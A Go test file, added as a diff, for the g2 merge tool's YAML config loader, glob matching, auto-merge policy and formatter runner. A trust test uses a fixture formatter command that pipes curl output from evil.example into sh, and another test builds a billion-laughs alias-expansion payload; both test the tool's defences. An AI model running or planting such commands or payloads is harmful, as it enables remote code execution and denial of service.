@@ -0,0 +1,361 @@
+package semantic
+
+import (
+	"context"
+	"fmt"
+	"os/exec"
+	"strings"
+	"testing"
+
+	"github.com/simonkoeck/g2/pkg/git"
+	"github.com/simonkoeck/g2/pkg/ui"
+)
+
+// withRepoConfig sets the repository config for the duration of a test
+func withRepoConfig(t *testing.T, config *RepoConfig) {
+	t.Helper()
+	old := repoConfig
+	SetRepoConfig(config)
+	t.Cleanup(func() { SetRepoConfig(old) })
+}
+
+// TestDecodeYAML tests decoding YAML into mappings, sequences and scalars
+func TestDecodeYAML(t *testing.T) {
+	content := []byte(`# policy
+backup: false
+auto_merge: [identical, "formatting"]
+formatter: 'black -q -'
+paths:
+  - match: "legacy/**"
+    note: |
+      kept as is
+  - match: [a, b]
+    empty: ~
+`)
+	doc, err := decodeYAML(content)
+	if err != nil {
+		t.Fatalf("decodeYAML failed: %v", err)
+	}
+	if doc.Kind != yamlMapping || len(doc.Pairs) != 4 {
+		t.Fatalf("expected a mapping with 4 keys, got %+v", doc)
+	}
+	if doc.Pairs[0].Key != "backup" || doc.Pairs[0].Value.Scalar != "false" {
+		t.Errorf("unexpected first pair: %+v", doc.Pairs[0])
+	}
+	if values, _ := doc.Pairs[1].Value.scalars(); strings.Join(values, ",") != "identical,formatting" {
+		t.Errorf("unexpected flow sequence: %v", values)
+	}
+	if doc.Pairs[2].Value.Scalar != "black -q -" {
+		t.Errorf("unexpected single-quoted scalar: %q", doc.Pairs[2].Value.Scalar)
+	}
+
+	sections := doc.Pairs[3].Value
+	if sections.Kind != yamlSequence || len(sections.Items) != 2 {
+		t.Fatalf("expected 2 sections, got %+v", sections)
+	}
+	if note := sections.Items[0].Pairs[1].Value.Scalar; note != "kept as is\n" {
+		t.Errorf("unexpected block scalar: %q", note)
+	}
+	if empty := sections.Items[1].Pairs[1].Value; empty.Kind != yamlNull {
+		t.Errorf("expected null, got %+v", empty)
+	}
+	if sections.Items[1].Line != 9 {
+		t.Errorf("expected section on line 9, got %d", sections.Items[1].Line)
+	}
+
+	// Anchors, merge keys, flow mappings and folded scalars
+	doc, err = decodeYAML([]byte(`defaults: &defaults
+  strategy: ours
+  note: >-
+    folded
+    text
+flow: {a: 1, b: [x, y]}
+paths:
+  - <<: *defaults
+    match: a/**
+    strategy: theirs
+  - *defaults
+`))
+	if err != nil {
+		t.Fatalf("decodeYAML failed: %v", err)
+	}
+	if flow := doc.Pairs[1].Value; flow.Kind != yamlMapping || len(flow.Pairs) != 2 || len(flow.Pairs[1].Value.Items) != 2 {
+		t.Errorf("unexpected flow mapping: %+v", flow)
+	}
+	first, second := doc.Pairs[2].Value.Items[0], doc.Pairs[2].Value.Items[1]
+	got := map[string]string{}
+	for _, pair := range first.Pairs {
+		got[pair.Key] = pair.Value.Scalar
+	}
+	if len(first.Pairs) != 3 || got["match"] != "a/**" || got["strategy"] != "theirs" || got["note"] != "folded text" {
+		t.Errorf("unexpected merged mapping: %+v", first.Pairs)
+	}
+	if second.Kind != yamlMapping || len(second.Pairs) != 2 || second.Pairs[0].Value.Scalar != "ours" {
+		t.Errorf("unexpected alias: %+v", second)
+	}
+
+	for _, content := range []string{"key: [unclosed\n", "? [a, b]\n: value\n", "a: 1\nb:\n  <<: 1\n", "a: 1\na: 2\n"} {
+		if _, err := decodeYAML([]byte(content)); err == nil {
+			t.Errorf("%q: expected an error", content)
+		}
+	}
+
+	// Nested aliases that would expand to 10^9 nodes
+	laughs := "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+	for level := 'b'; level <= 'i'; level++ {
+		prev := string(level - 1)
+		laughs += fmt.Sprintf("%c: &%c [*%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s]\n", level, level, prev, prev, prev, prev, prev, prev, prev, prev, prev, prev)
+	}
+	if _, err := decodeYAML([]byte(laughs)); err == nil || !strings.Contains(err.Error(), "expands to more than") {
+		t.Errorf("expected the expansion to be capped, got %v", err)
+	}
+}
+
+// TestLoadRepoConfig tests reading .g2.yaml and g2.* git config
+func TestLoadRepoConfig(t *testing.T) {
+	root := t.TempDir()
+	writeRepoFiles(t, root, map[string]string{
+		".g2.yaml": `backup: false
+max_file_size: 2048
+moves:
+  fuzzy_threshold: 0.9
+  cross_kind: true
+auto_merge: [identical, formatting, move]
+paths:
+  - match: "legacy/**"
+    moves:
+      enabled: false
+    import_updates: false
+  - match: ["*.tmpl", "templates/"]
+    language: text
+`,
+	})
+
+	mock := git.NewMockExecutor()
+	mock.SetResponse("config", []byte("g2.formatter\nblack -q -\x00g2.legacy/**.automerge\nnone\x00"), nil)
+	withMockExecutor(t, mock)
+
+	config, err := LoadRepoConfig(context.Background(), root)
+	if err != nil {
+		t.Fatalf("LoadRepoConfig failed: %v", err)
+	}
+	if config.MaxFileSize != 2048 {
+		t.Errorf("expected max file size 2048, got %d", config.MaxFileSize)
+	}
+	if len(config.Sections) != 3 {
+		t.Fatalf("expected 3 sections, got %d", len(config.Sections))
+	}
+
+	t.Run("top-level settings", func(t *testing.T) {
+		s := config.For("app/main.py")
+		if s.backupEnabled() {
+			t.Error("backups should be disabled")
+		}
+		if got := s.moveConfig(DefaultMoveDetectionConfig()).FuzzyThreshold; got != 0.9 {
+			t.Errorf("expected fuzzy threshold 0.9, got %v", got)
+		}
+		if !s.moveConfig(DefaultMoveDetectionConfig()).EnableCrossKindMatch {
+			t.Error("expected cross-kind matching to be enabled")
+		}
+		if s.allowsAutoMerge(ClassDeletion) || !s.allowsAutoMerge(ClassMove) {
+			t.Errorf("unexpected auto-merge classes: %v", s.AutoMerge)
+		}
+		if s.Formatter == nil || *s.Formatter != "black -q -" {
+			t.Errorf("expected formatter from git config, got %v", s.Formatter)
+		}
+	})
+
+	t.Run("section overrides", func(t *testing.T) {
+		s := config.For("legacy/billing/old.py")
+		if s.importUpdatesEnabled() {
+			t.Error("import updates should be disabled under legacy/")
+		}
+		moves := s.moveConfig(DefaultMoveDetectionConfig())
+		if moves.EnableExactMatch || moves.EnableFuzzyMatch {
+			t.Error("move detection should be disabled under legacy/")
+		}
+		if moves.FuzzyThreshold != 0.9 {
+			t.Errorf("top-level threshold should still apply, got %v", moves.FuzzyThreshold)
+		}
+		if s.allowsAutoMerge(ClassIdentical) {
+			t.Error("git config section should disable all auto-merging under legacy/")
+		}
+	})
+
+	t.Run("language override", func(t *testing.T) {
+		withRepoConfig(t, config)
+		if IsSemanticFile("templates/page.py") || IsSemanticFile("views/index.tmpl") {
+			t.Error("files overridden to text should not be semantic")
+		}
+		if DetectLanguage("app/main.py") != LangPython {
+			t.Error("other files keep their detected language")
+		}
+	})
+}
+
+// TestLoadRepoConfig_TrustRepoConfig tests that commands in .g2.yaml are
+// only used when git config trusts the file
+func TestLoadRepoConfig_TrustRepoConfig(t *testing.T) {
+	root := t.TempDir()
+	writeRepoFiles(t, root, map[string]string{
+		".g2.yaml": "formatter: curl -s evil.example | sh\nbackup: false\npaths:\n  - match: \"*.py\"\n    formatter: black -q -\n  - match: \"*.ini\"\n    analyzer: ini-analyzer\n",
+	})
+
+	mock := git.NewMockExecutor()
+	mock.SetDefaultError(&exec.ExitError{})
+	withMockExecutor(t, mock)
+	config, err := LoadRepoConfig(context.Background(), root)
+	if err != nil {
+		t.Fatalf("LoadRepoConfig failed: %v", err)
+	}
+	if s := config.For("app/main.py"); s.Formatter != nil {
+		t.Errorf("expected untrusted formatters to be ignored, got %q", *s.Formatter)
+	}
+	if s := config.For("conf/app.ini"); s.Analyzer != nil {
+		t.Errorf("expected untrusted analyzers to be ignored, got %q", *s.Analyzer)
+	}
+	if config.Settings.backupEnabled() {
+		t.Error("other settings should still apply")
+	}
+
+	mock = git.NewMockExecutor()
+	mock.SetResponse("config", []byte("g2.trustrepoconfig\ntrue\x00"), nil)
+	withMockExecutor(t, mock)
+	config, err = LoadRepoConfig(context.Background(), root)
+	if err != nil {
+		t.Fatalf("LoadRepoConfig failed: %v", err)
+	}
+	if s := config.For("app/main.py"); s.Formatter == nil || *s.Formatter != "black -q -" {
+		t.Errorf("expected the trusted formatter, got %v", s.Formatter)
+	}
+	if s := config.For("conf/app.ini"); s.Analyzer == nil || *s.Analyzer != "ini-analyzer" {
+		t.Errorf("expected the trusted analyzer, got %v", s.Analyzer)
+	}
+}
+
+// TestLoadRepoConfig_Errors tests that invalid entries are reported and skipped
+func TestLoadRepoConfig_Errors(t *testing.T) {
+	root := t.TempDir()
+	writeRepoFiles(t, root, map[string]string{
+		".g2.yaml": "backup: maybe\nauto_merge: [identical, everything]\nunknown_key: 1\nimport_updates: false\npaths:\n  - language: python\n",
+	})
+	mock := git.NewMockExecutor()
+	mock.SetDefaultError(&exec.ExitError{})
+	withMockExecutor(t, mock)
+
+	config, err := LoadRepoConfig(context.Background(), root)
+	if err == nil {
+		t.Fatal("expected an error")
+	}
+	for _, want := range []string{".g2.yaml:1", "everything", "unknown_key", "without match"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error should mention %q: %v", want, err)
+		}
+	}
+	if config.Settings.importUpdatesEnabled() {
+		t.Error("valid entries should still be applied")
+	}
+}
+
+// TestMatchPathGlob tests path glob matching
+func TestMatchPathGlob(t *testing.T) {
+	tests := []struct {
+		pattern, file string
+		want          bool
+	}{
+		{"*.py", "utils.py", true},
+		{"*.py", "pkg/deep/utils.py", true},
+		{"*.py", "utils.pyc", false},
+		{"legacy/**", "legacy/a/b.py", true},
+		{"legacy/**", "src/legacy/b.py", false},
+		{"legacy/", "legacy/b.py", true},
+		{"src/**/test_*.py", "src/test_a.py", true},
+		{"src/**/test_*.py", "src/x/y/test_a.py", true},
+		{"src/*.py", "src/x/a.py", false},
+		{"/vendor/**", "vendor/lib.go", true},
+	}
+	for _, tt := range tests {
+		if got := matchPathGlob(tt.pattern, tt.file); got != tt.want {
+			t.Errorf("matchPathGlob(%q, %q) = %v, want %v", tt.pattern, tt.file, got, tt.want)
+		}
+	}
+}
+
+// TestApplyAutoMergePolicy tests that disallowed classes need resolution
+func TestApplyAutoMergePolicy(t *testing.T) {
+	classes, _ := parseConflictClasses("identical")
+	withRepoConfig(t, &RepoConfig{Sections: []PathSection{{Patterns: []string{"strict/**"}, Settings: PathSettings{AutoMerge: classes}}}})
+
+	newAnalysis := func(file string) *SynthesisAnalysis {
+		return &SynthesisAnalysis{File: file, Conflicts: []SynthesisConflict{
+			{UIConflict: ui.Conflict{File: file, ConflictType: "Function 'a' Modified (same)", Status: "Can Auto-merge"}},
+			{UIConflict: ui.Conflict{File: file, ConflictType: "Function 'b' Updated (remote)", Status: "Can Auto-merge"}},
+			{
+				UIConflict: ui.Conflict{File: file, ConflictType: "Class 'A' Renamed+Moved to 'B' (2 members, 90% Match)", Status: "Can Auto-merge"},
+				Members: []SynthesisConflict{
+					{UIConflict: ui.Conflict{File: file, ConflictType: "Method 'A.x' Renamed+Moved to 'B.x' (Exact Match)", Status: "Can Auto-merge"}},
+				},
+			},
+		}}
+	}
+
+	strict := newAnalysis("strict/a.py")
+	ApplyAutoMergePolicy(strict)
+	statuses := []string{strict.Conflicts[0].UIConflict.Status, strict.Conflicts[1].UIConflict.Status, strict.Conflicts[2].UIConflict.Status, strict.Conflicts[2].Members[0].UIConflict.Status}
+	want := []string{"Can Auto-merge", "Needs Resolution", "Needs Resolution", "Needs Resolution"}
+	if strings.Join(statuses, ",") != strings.Join(want, ",") {
+		t.Errorf("expected %v, got %v", want, statuses)
+	}
+
+	other := newAnalysis("src/a.py")
+	ApplyAutoMergePolicy(other)
+	for _, c := range other.Conflicts {
+		if c.UIConflict.Status != "Can Auto-merge" {
+			t.Errorf("paths outside the section should be unaffected: %+v", c.UIConflict)
+		}
+	}
+}
+
+// TestClassifyConflict tests mapping conflict types to policy classes
+func TestClassifyConflict(t *testing.T) {
+	tests := map[string]ConflictClass{
+		"Function Added (identical)":                    ClassIdentical,
+		"Function 'f' Formatted Change":                 ClassFormatting,
+		"Function 'f' Comment Change":                   ClassFormatting,
+		"Function 'f' Updated (local)":                  ClassOneSided,
+		"Function 'f' Deleted (both)":                   ClassDeletion,
+		"Function 'f' Added (remote)":                   ClassAddition,
+		"Function 'f' Moved to b.py (Exact Match)":      ClassMove,
+		"Function 'f' Split into 'g', 'h'":              ClassMove,
+		"Function 'f' Renamed+Moved to 'g' (80% Match)": ClassMove,
+	}
+	for conflictType, want := range tests {
+		c := &SynthesisConflict{UIConflict: ui.Conflict{ConflictType: conflictType}}
+		if got := ClassifyConflict(c); got != want {
+			t.Errorf("ClassifyConflict(%q) = %s, want %s", conflictType, got, want)
+		}
+	}
+}
+
+// TestRunFormatter tests piping merged content through a formatter
+func TestRunFormatter(t *testing.T) {
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip("sh not available")
+	}
+	upper, failing := "tr a-z A-Z", "exit 3"
+	withRepoConfig(t, &RepoConfig{Sections: []PathSection{
+		{Patterns: []string{"*.py"}, Settings: PathSettings{Formatter: &upper}},
+		{Patterns: []string{"broken.py"}, Settings: PathSettings{Formatter: &failing}},
+	}})
+
+	got, err := runFormatter("a.py", []byte("def f(): pass\n"))
+	if err != nil || string(got) != "DEF F(): PASS\n" {
+		t.Errorf("unexpected formatter result %q (%v)", got, err)
+	}
+	if got, _ := runFormatter("a.go", []byte("package a\n")); string(got) != "package a\n" {
+		t.Errorf("files without a formatter should be unchanged, got %q", got)
+	}
+	if got := formatMerged("broken.py", []byte("x = 1\n")); string(got) != "x = 1\n" {
+		t.Errorf("a failing formatter should keep the content, got %q", got)
+	}
+}